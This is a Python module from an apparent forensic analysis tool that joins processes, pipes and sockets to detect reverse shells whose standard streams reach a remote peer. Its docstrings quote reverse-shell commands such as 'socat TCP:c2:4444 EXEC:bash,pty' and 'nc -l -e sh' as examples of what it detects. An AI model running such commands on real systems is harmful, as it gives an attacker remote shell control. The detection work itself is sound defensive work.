"""Processes, pipes and sockets joined by file ids and holders: who talks to whom.

The findings ask it where a process's stdin/stdout/stderr lead (a reverse shell's fd 0/1/2
reach a remote peer directly, through a pipe, or through a UNIX socketpair); the connection
graph of the report is drawn from the same joins (``findings.graph``).

A relay (the process at the other end of the pipe or socketpair) counts only with a connection
it did not accept on a port it listens on itself: ``server 2>&1 | tee log`` joins tee to a
server that holds a client's inbound connection, and that is no relay to a remote peer. A
process's own fd 0/1/2 on a connected socket count whatever the direction (``nc -l -e sh``).

Pipes are followed for shells only: ``app 2>&1 | tee log`` beside an app that holds a database
or log-shipping connection is everyday plumbing, while a shell whose input comes down a pipe
from a connected ``nc`` is the classic relay. A socketpair or a terminal whose other end holds
the connection is a remote-control construct whatever runs on it (``socat ... EXEC:python``).
"""

from __future__ import annotations

import re
from typing import Any

from forensic_checkpoint.analysis.model.process import OpenFile
from forensic_checkpoint.analysis.model.report import Pipe, Report, Socket


def socket_text(s: Socket) -> str:
    proto = s.protocol or s.family
    local = f"{s.local_address}:{s.local_port}"
    remote = f"{s.remote_address}:{s.remote_port}"
    return f"{proto} {local} -> {remote} {s.state or ''}".rstrip()


def _ends(s: Socket) -> str:
    """The socket's ends, named: where the analyst sees which side is the container's."""
    local = f"{s.local_address}:{s.local_port}"
    remote = f"{s.remote_address}:{s.remote_port}"
    return f"{s.protocol or s.family} socket local {local} remote {remote}"


def _has_remote(s: Socket) -> bool:
    return s.family in ("inet", "inet6") and bool(s.remote_port) and s.state != "LISTEN"


def _queue_bytes(s: Socket) -> int:
    return sum(q.size_bytes for q in (s.receive_queue, s.send_queue) if q is not None)


def _pids(s: Socket) -> set[int]:
    return {h.pid for h in s.held_by} | ({s.pid} if s.pid is not None else set())


_WILDCARD = {None, "", "0.0.0.0", "::", "::ffff:0.0.0.0"}  # noqa: S104 (addresses in data)


def _accepts(listener: Socket, conn: Socket) -> bool:
    """``conn`` could have been accepted on ``listener``: same protocol and local port, and
    the listener bound to that address or to any."""
    return (
        listener.state == "LISTEN"
        and listener.family in ("inet", "inet6")
        and listener.protocol == conn.protocol
        and listener.local_port == conn.local_port
        and (listener.local_address in _WILDCARD or listener.local_address == conn.local_address)
    )


class Graph:
    """Processes, pipes and sockets joined by file ids and holders (the connection graph)."""

    def __init__(self, report: Report) -> None:
        self.report = report
        self.procs = {p.pid: p for p in report.processes}
        self.socket_by_file = {s.id: s for s in report.sockets}
        self.pipes = {p.id: p for p in report.pipes}

    def fd(self, pid: int, fd: int) -> OpenFile | None:
        proc = self.procs.get(pid)
        if proc is None:
            return None
        return next((f for f in proc.open_files if f.fd == fd), None)

    def socket_of(self, item: OpenFile) -> Socket | None:
        return self.socket_by_file.get(item.file_id) if item.file_id is not None else None

    def pipe_of(self, item: OpenFile) -> Pipe | None:
        m = re.fullmatch(r"pipe:\[(\d+)\]", item.path)
        return self.pipes.get(int(m.group(1))) if m else None

    def remote_sockets(self, pid: int) -> list[Socket]:
        return [s for s in self.report.sockets if _has_remote(s) and pid in _pids(s)]

    def accepted(self, pid: int, sock: Socket) -> bool:
        """``sock`` is a connection on a port that ``pid`` itself listens on (an inbound
        client of its own server)."""
        return any(pid in _pids(s) and _accepts(s, sock) for s in self.report.sockets)

    def direction(self, pid: int, sock: Socket) -> str:
        if self.accepted(pid, sock):
            return f"inbound (accepted on port {sock.local_port}, which pid {pid} listens on)"
        return f"outbound (pid {pid} listens on no port {sock.local_port})"

    def outbound_sockets(self, pid: int) -> list[Socket]:
        """Connected sockets of ``pid`` that it did not accept on a port it listens on."""
        return [s for s in self.remote_sockets(pid) if not self.accepted(pid, s)]

    def listens(self, pid: int) -> bool:
        return any(
            s.state == "LISTEN" and s.family in ("inet", "inet6") and pid in _pids(s)
            for s in self.report.sockets
        )

    def stdio_link(self, pid: int, *, through_pipes: bool = True) -> dict[str, Any] | None:
        """A remote peer reached by this process's fd 0/1/2: directly (a socket, either
        direction), or through the peer of a UNIX socketpair, the master of its terminal, or
        (``through_pipes``) the other end of a pipe, held by a process with an outbound
        connection (see the module's note)."""
        return (
            self._direct_link(pid)
            or (self._pipe_relay(pid) if through_pipes else None)
            or self._unix_relay(pid)
            or self._pty_relay(pid)
        )

    def _direct_link(self, pid: int) -> dict[str, Any] | None:
        """fd 0/1/2 are themselves connected sockets (the last one found is reported)."""
        direct: list[int] = []
        for fd in (0, 1, 2):
            item = self.fd(pid, fd)
            sock = self.socket_of(item) if item else None
            if item and sock and _has_remote(sock):
                direct.append(fd)
                last = sock
        if not direct:
            return None
        direction = self.direction(pid, last)
        return {
            "fds": direct,
            "remote": socket_text(last),
            "bytes": _queue_bytes(last),
            "holders": sorted({h.pid for h in last.held_by}),
            "direction": direction,
            "path": f"fd {','.join(map(str, direct))} = {_ends(last)}, {direction}",
        }

    def _pipe_relay(self, pid: int) -> dict[str, Any] | None:
        """fd 0/1/2 on a pipe whose other end is held by a process with a connected socket."""
        for fd in (0, 1, 2):
            item = self.fd(pid, fd)
            pipe = self.pipe_of(item) if item else None
            if item is None or pipe is None:
                continue
            link = self._through_pipe(pid, fd, item, pipe)
            if link is not None:
                return link
        return None

    def _through_pipe(self, pid: int, fd: int, item: OpenFile, pipe: Pipe) -> dict[str, Any] | None:
        mine_reads = (item.flags or "").endswith("RDONLY")
        for holder in pipe.held_by:
            other = self.fd(holder.pid, holder.fd) if holder.pid != pid else None
            # only the opposite end of the pipe carries this shell's input or output
            if other is None or ((other.flags or "").endswith("RDONLY")) == mine_reads:
                continue
            sock = next(iter(self.outbound_sockets(holder.pid)), None)
            if sock is None:
                continue
            relay = self.procs[holder.pid]
            arrow = "<-" if mine_reads else "->"
            queued = _queue_bytes(sock) + (pipe.buffered.size_bytes if pipe.buffered else 0)
            return {
                "fds": [fd],
                "remote": socket_text(sock),
                "bytes": queued,
                "holders": sorted({pid, holder.pid}),
                "direction": self.direction(holder.pid, sock),
                "path": (
                    f"fd {fd} {arrow} pipe:[{pipe.id}] {arrow} pid {holder.pid} "
                    f"({relay.comm}) fd {holder.fd}, which holds {_ends(sock)}, "
                    f"{self.direction(holder.pid, sock)}"
                ),
            }
        return None

    def _pty_relay(self, pid: int) -> dict[str, Any] | None:
        """fd 0/1/2 on a pseudo-terminal whose master is held by a process with an outbound
        connection: ``socat TCP:c2:4444 EXEC:bash,pty`` or python's ``pty.spawn`` behind a
        connected socket give the shell a terminal the remote side types into. (A terminal of
        ``kubectl exec -t`` has its master outside the container; sshd's has an inbound one.)"""
        for fd in (0, 1, 2):
            item = self.fd(pid, fd)
            if item is None or item.pty is None or item.pty_master is not False:
                continue
            for holder_pid, master in self._pty_masters(item.pty):
                sock = next(iter(self.outbound_sockets(holder_pid)), None)
                if holder_pid == pid or sock is None:
                    continue
                relay = self.procs[holder_pid]
                return {
                    "fds": [fd],
                    "remote": socket_text(sock),
                    "bytes": _queue_bytes(sock),
                    "holders": sorted({pid, holder_pid}),
                    "direction": self.direction(holder_pid, sock),
                    "path": (
                        f"fd {fd} = {item.path}, the terminal whose master {master.path} pid "
                        f"{holder_pid} ({relay.comm}) holds as fd {master.fd}, and which holds "
                        f"{_ends(sock)}, {self.direction(holder_pid, sock)}"
                    ),
                }
        return None

    def _pty_masters(self, pty: str) -> list[tuple[int, OpenFile]]:
        return [
            (proc.pid, f)
            for proc in self.report.processes
            for f in proc.open_files
            if f.pty == pty and f.pty_master
        ]

    def _unix_relay(self, pid: int) -> dict[str, Any] | None:
        """fd 0/1/2 on a UNIX socket whose peer is held by a process with a connected socket:
        ``socat TCP:c2:4444 EXEC:sh`` gives the shell one end of a socketpair."""
        by_inode = {s.inode: s for s in self.report.sockets if s.inode is not None}
        for fd in (0, 1, 2):
            item = self.fd(pid, fd)
            mine = self.socket_of(item) if item else None
            if mine is None or mine.family != "unix" or mine.peer_inode is None:
                continue
            peer = by_inode.get(mine.peer_inode)
            if peer is None:
                continue
            for holder in peer.held_by:
                sock = next(iter(self.outbound_sockets(holder.pid)), None)
                if holder.pid == pid or sock is None:
                    continue
                relay = self.procs[holder.pid]
                return {
                    "fds": [fd],
                    "remote": socket_text(sock),
                    "bytes": _queue_bytes(sock) + _queue_bytes(mine) + _queue_bytes(peer),
                    "holders": sorted({pid, holder.pid}),
                    "direction": self.direction(holder.pid, sock),
                    "path": (
                        f"fd {fd} = unix socket:[{mine.inode}] <-> socket:[{mine.peer_inode}]"
                        f" of pid {holder.pid} ({relay.comm}) fd {holder.fd}, which holds "
                        f"{_ends(sock)}, {self.direction(holder.pid, sock)}"
                    ),
                }
        return None
